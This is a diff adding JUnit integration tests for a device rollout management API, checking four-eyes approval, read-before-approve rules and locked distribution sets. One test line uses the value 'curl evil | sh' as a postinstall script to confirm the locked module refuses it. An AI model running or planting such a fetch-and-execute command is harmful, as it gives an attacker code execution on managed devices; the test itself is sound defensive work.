@@ -13,6 +13,7 @@ import java.time.Duration;
 import java.util.Base64;
 import java.util.List;
 import java.util.Map;
+import java.util.concurrent.atomic.AtomicInteger;
 import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
@@ -239,6 +240,8 @@ class ManagementApiStory {
             var path = REST + "/rollouts/" + rollout.path("id").asInt();
             refused(operator.post(path + "/start", null), 400, "rollout.illegalState");
             refused(operator.post(path + "/approve", null), 403, "insufficientPermission");
+            refused(headgate.approver().post(path + "/approve?remark=unread", null), 428, "rest.notRead");
+            headgate.approver().get(path).orFail("reading");
             assertThat(headgate.approver()
                             .post(path + "/approve?remark=fine", null)
                             .status())
@@ -358,6 +361,73 @@ class ManagementApiStory {
 
     private Answer create(Map<String, Object> body) {
         return admin.post(REST + "/rollouts", body);
+    }
+
+    /** By a direct and by an automatic assignment one operator alone would reach every device. */
+    @Test
+    void withApprovalOnNobodyAssignsAlone() {
+        headgate.approvalRequired(true);
+        try {
+            var set = setFor("four-eyes");
+            targets("four-eyes", 20);
+            var operator = headgate.operator();
+            // distribution-service hears of the switch a moment later: always another target, so that each is an
+            // assignment.
+            var next = new AtomicInteger();
+            await().atMost(Duration.ofSeconds(20))
+                    .untilAsserted(() -> refused(
+                            operator.post(
+                                    REST + "/distributionsets/" + set + "/assignedTargets",
+                                    List.of(Map.of("id", "four-eyes-" + Math.min(next.getAndIncrement(), 18)))),
+                            403,
+                            "insufficientPermission"));
+
+            var automatic = operator.post(
+                            REST + "/autoassignments",
+                            Map.of(
+                                    "name",
+                                    "four eyes",
+                                    "targetFilterQuery",
+                                    "controllerid==four-eyes-19",
+                                    "distributionSetId",
+                                    set,
+                                    "startAt",
+                                    1))
+                    .orFail("creating an auto-assignment");
+            assertThat(automatic.path("status").asString()).isEqualTo("waiting_for_approval");
+            var path = REST + "/autoassignments/" + automatic.path("id").asInt();
+            refused(operator.post(path + "/start", null), 409, "auto.assignment.illegalState");
+            refused(headgate.approver().post(path + "/approve", null), 428, "rest.notRead");
+            assertThat(headgate.approver()
+                            .get(path)
+                            .orFail("reading")
+                            .path("status")
+                            .asString())
+                    .isEqualTo("waiting_for_approval");
+            assertThat(headgate.approver()
+                            .post(path + "/approve?remark=fine", null)
+                            .status())
+                    .isEqualTo(204);
+            assertThat(get(path).path("status").asString()).isEqualTo("running");
+            await().atMost(Duration.ofSeconds(20))
+                    .until(() ->
+                            admin.get(REST + "/targets/four-eyes-19/assignedDS").status() == 200);
+
+            // What devices get of it is fixed now.
+            var module = get(REST + "/distributionsets/" + set + "/assignedSM")
+                    .path("content")
+                    .path(0)
+                    .path("id")
+                    .asLong();
+            var script = Map.of("key", "postinstall", "value", "curl evil | sh", "targetVisible", true);
+            refused(operator.post(REST + "/softwaremodules/" + module + "/metadata", List.of(script)), 423, "locked");
+            refused(operator.put(REST + "/distributionsets/" + set, Map.of("locked", false)), 423, "locked");
+            assertThat(operator.put(REST + "/distributionsets/" + set, Map.of("name", "four eyes renamed"))
+                            .status())
+                    .isEqualTo(200);
+        } finally {
+            headgate.approvalRequired(false);
+        }
     }
 
     private JsonNode get(String path) {
